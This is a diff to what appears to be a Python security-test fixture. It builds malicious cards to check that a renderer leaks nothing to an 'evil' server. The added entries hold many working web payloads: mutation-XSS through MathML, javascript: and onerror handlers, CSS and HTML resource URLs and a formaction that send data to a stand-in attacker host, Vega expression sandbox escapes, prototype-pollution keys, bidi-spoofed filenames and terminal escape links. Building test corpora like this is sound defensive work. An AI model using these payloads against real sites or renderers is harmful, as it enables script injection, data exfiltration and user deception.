@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import base64
 import json
+import re
 from typing import Any
 
 Json = Any
@@ -205,6 +206,55 @@ COMPONENTS: dict[str, list[Json]] = {
     "chart of everything wrong": [{"type": "vega", "spec": {"mark": [], "encoding": 5, "data": "x"}}, {"type": "vega", "spec": {"layer": {}}}, {"type": "vega", "spec": []}, {"type": "vega"}],
     "chart that wants to be embedded otherwise": [_lite(usermeta={"embedOptions": {"loader": {"http": {"credentials": "include"}}, "patch": f"{EVIL}/patch.json", "config": f"{EVIL}/c.json"}})],
     "chart as wide as the world": [_lite(width=1e9, height=1e9), _vega(width=1e7, height=1e7, padding=1e7)],
+    # ---- more of all of it
+    "style in markdown": [_markdown(f"<p style='position:fixed;inset:0;background:url({EVIL}/s)'>log in</p>\n\n<b class='jp-Dialog' style=\"content:url({EVIL}/c)\">x</b>\n\n# x {{style=position:fixed}}")],
+    "use in markdown": [_markdown(f"<svg><use href='{EVIL}/u.svg#a'/><use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#a'/><set attributeName=onmouseover to={SAY}></svg>")],
+    "math that turns into HTML": [
+        _markdown(f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={EVIL}/m onerror={SAY}&gt;'></table></mtext></math>"),
+        _html(f"<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src={EVIL}/n onerror={SAY}>'></mtext></svg></mglyph></form></mtext></math>"),
+        _html(f"<math><a xlink:href=javascript:{SAY} href=javascript:{SAY} id=go>x</a><maction actiontype=statusline xlink:href={EVIL}/x>x</maction></math>"),
+    ],
+    "links to other machines": [_markdown(f"[x](//{EVIL.removeprefix('http://')}/a) [y](\\\\{EVIL.removeprefix('http://')}/b) [z](file:///etc/passwd) [w](blob:{EVIL}/c) [v](ftp://x/) ![x](blob:{EVIL}/d)")],
+    "picture in markdown that is a drawing": [_markdown("![x](" + _svg(f'<script>{SAY}</script><image href="{EVIL}/i"/>') + ")")],
+    "formaction in a frame": [_html(f"<button form=f formaction={EVIL}/a formtarget=_top id=go style='position:fixed;inset:0'>x</button><form id=f><input name=a value=secret></form><isindex action={EVIL}/i>")],
+    "link of a frame to a new window": [_html(f"<a id=go href={EVIL}/w target=_blank rel=opener style='position:fixed;inset:0'>x</a>")],
+    "link of a frame that downloads": [_html(f"<a id=go href={EVIL}/w.exe download style='position:fixed;inset:0'>x</a>")],
+    "frames in frames in frames": [_html("<iframe srcdoc=\"<iframe srcdoc='<script>top.canary=1</script>' sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>\"></iframe>" + f"<frameset><frame src={EVIL}/f></frameset><iframe src='javascript:{SAY}'></iframe>")],
+    "frame with a tree in the shade": [_html(f"<div><template shadowrootmode=open><style>:host{{background:url({EVIL}/h)}}</style><script>{SAY}</script><img src={EVIL}/t></template></div>")],
+    "frame that fetches ahead": [_html(f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/sp\"]}}],\"prerender\":[{{\"urls\":[\"{EVIL}/pr\"]}}]}}</script><link rel=prerender href={EVIL}/p><link rel=manifest href={EVIL}/m><link rel=icon href={EVIL}/i><html manifest={EVIL}/h>")],
+    "frame with all addresses of CSS": [
+        _html(
+            f"<style>@import u\\72l({EVIL}/1);@import '{EVIL}/2' layer(x);a{{background:image-set('{EVIL}/3' 1x);mask:url({EVIL}/4);clip-path:url({EVIL}/5#a);filter:url({EVIL}/6#b);cursor:url({EVIL}/7),auto;"
+            f"border-image:-webkit-image-set(url({EVIL}/8) 1x) 3;content:url({EVIL}/9);list-style:url({EVIL}/10);shape-outside:url({EVIL}/11);background:u\\000072l({EVIL}/12);background:url/**/({EVIL}/13);"
+            f"background:src('{EVIL}/14')}}@namespace url({EVIL}/15);@document url({EVIL}/16){{}}@font-face{{font-family:q;src:local(x),url({EVIL}/17)}}@property --x{{syntax:'<url>';inherits:true;initial-value:url({EVIL}/18)}}a{{background:var(--x);font-family:q}}</style><a>x</a>"
+        )
+    ],
+    "frame with all addresses of HTML": [
+        _html(
+            f"<img srcset='{EVIL}/1 1x, {EVIL}/2 2x' loading=eager><picture><source srcset={EVIL}/3><img></picture><video poster={EVIL}/4><track src={EVIL}/5></video><body background={EVIL}/6><table background={EVIL}/7><td background={EVIL}/8>"
+            f"<svg><image href={EVIL}/9 /><feImage href={EVIL}/10 /><use href={EVIL}/11#a /><script href={EVIL}/12></script><linearGradient href={EVIL}/13#g /></svg><applet code={EVIL}/14></applet><bgsound src={EVIL}/15><portal src={EVIL}/16></portal><q cite={EVIL}/17>x</q>"
+        )
+    ],
+    "frame that opens over the page": [_html("<dialog open style='position:fixed;inset:0;width:9999px;height:9999px'>log in</dialog><div popover id=p>x</div><button popovertarget=p id=go style='position:fixed;inset:0'>x</button><video controls autoplay></video>")],
+    "chart that asks in all languages": [
+        _vega(signals=[{"name": "a", "update": f"warn('{EVIL}'), data('x'), indata('x', 'y', 1), scale('__proto__', 1), geoPath('x', {{}})"}]),
+        _vega(signals=[{"name": "a", "update": "({}).\u0063onstructor"}, {"name": "b", "init": "toString.constructor('alert(1)')()"}, {"name": "c", "react": True, "update": "replace('x', /x/, event)"}]),
+        _lite(params=[{"name": "p", "expr": "this.constructor.constructor('alert(1)')()"}]),
+    ],
+    "chart of expressions of the prototype": [_lite(transform=[{"calculate": f"datum['{name}']", "as": name}]) for name in ("__proto__", "constructor", "toString")],
+    "chart with links by a signal": [_vega(signals=[{"name": "h", "update": f"'java' + 'script:{SAY}'"}], marks=[_mark(href={"signal": "h"}, width={"value": 50}, height={"value": 50})]), _vega(marks=[_mark(href={"value": f"{EVIL}/l"}, target={"value": "_top"})])],
+    "chart with a loader of its own": [{"type": "vega", "spec": {"mark": "point", "data": {"url": f"{EVIL}/d", "format": {"type": "json"}}, "config": {"loader": {"baseURL": EVIL, "mode": "file"}}, "loader": {"target": "_top"}}}, _lite(data={"name": "x", "url": f"data:text/csv,{EVIL}"})],
+    "chart of one very long word": [_lite(title="W" * 1_000_000), _lite(mark={"type": "text", "text": "\u202e" * 100_000})],
+    "keys of the prototype at every depth": [
+        {"type": "yaml", "data": {"a": [{"__proto__": {"polluted": 1}}], "valueOf": {"toJSON": {"then": 1}}}},
+        {"type": "table", "headers": ["__proto__"], "rows": [[{"type": "__proto__", "__proto__": {"polluted": 1}}]], "__proto__": {"polluted": 1}},
+        {"type": "lines", "series": [{"name": "__proto__", "x": [1], "y": [2]}, {"name": "__proto__", "x": [1], "y": [3]}, {"name": "constructor", "x": [1], "y": [4]}]},
+    ],
+    "a hundred thousand rows": [{"type": "table", "headers": ["n"], "rows": [[i] for i in range(100_000)]}],
+    "SVG that moves and links": [{"type": "image", "src": _svg(f'<a xlink:href="javascript:{SAY}"><rect width="20" height="20"><animate attributeName="href" values="javascript:{SAY}"/><set attributeName="onload" to="{SAY}"/></rect></a><style>@font-face{{font-family:x;src:url({EVIL}/f)}}text{{font-family:x}}</style><text y="9">x</text>')}],
+    "SVG that is not in base64": [{"type": "image", "src": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SAY}'><image href='{EVIL}/i'/></svg>"}, {"type": "image", "src": f"data:image/svg+xml;charset=utf-8;base64,{_b64('<svg/>')}"}],
+    "escape sequences that link": [{"type": "code", "text": f"\x1b]8;id=1;javascript:{SAY}\x1b\\click\x1b]8;;\x1b\\ \x1b]1337;File=inline=1:AAAA\x07\x1bP0;1|{EVIL}\x1b\\ \x9d8;;{EVIL}\x9cx \x1b_{EVIL}\x1b\\"}],
+    "names that turn around": [{"type": "artifact", "name": f"{BIDI}fdp.exe", "of": BIDI, "text": f"{BIDI}00,1"}, {"type": "progress", "label": f"{BIDI}%001", "value": 1, "max": 100, "unit": BIDI}, {"type": "image", "src": "data:image/png;base64,AAAA", "label": BIDI * 100}],
     # ---- the card itself
     "types of the prototype": [{"type": "__proto__"}, {"type": "constructor"}, {"type": "toString"}, {"type": ["markdown"]}, {"type": {"a": 1}}, None, 3, "x", []],
     "ids of the prototype": [{"type": "markdown", "id": "__proto__", "text": "a"}, {"type": "markdown", "id": "constructor", "text": "b"}, {"type": "markdown", "id": "__proto__", "text": "c"}],
@@ -222,7 +272,17 @@ def card(components: list[Json]) -> Json:
     return {"v": 1, "id": "main", "type": "blank", "state": "running", "n": 1, "components": [LAST, *components]}
 
 
+def _for(evil: str, text: str) -> str:
+    """The address in its place, also within what is written in base64."""
+
+    def inner(match: re.Match[str]) -> str:
+        found = base64.b64decode(match[2])
+        return match[1] + _b64(found.replace(EVIL.encode(), evil.encode())) if EVIL.encode() in found else match[0]
+
+    return re.sub(r"(;base64,)((?:[A-Za-z0-9+/]{4})+(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?)", inner, text).replace(EVIL, evil)
+
+
 def cards(evil: str) -> dict[str, str]:
     """Name → a card as text, as it arrives from a pod; `evil` is the address of the server that must not hear of it."""
-    found = {name: json.dumps(card(components)).replace(EVIL, evil) for name, components in COMPONENTS.items()}
+    found = {name: _for(evil, json.dumps(card(components))) for name, components in COMPONENTS.items()}
     return found | {"numbers that are none": NAN}
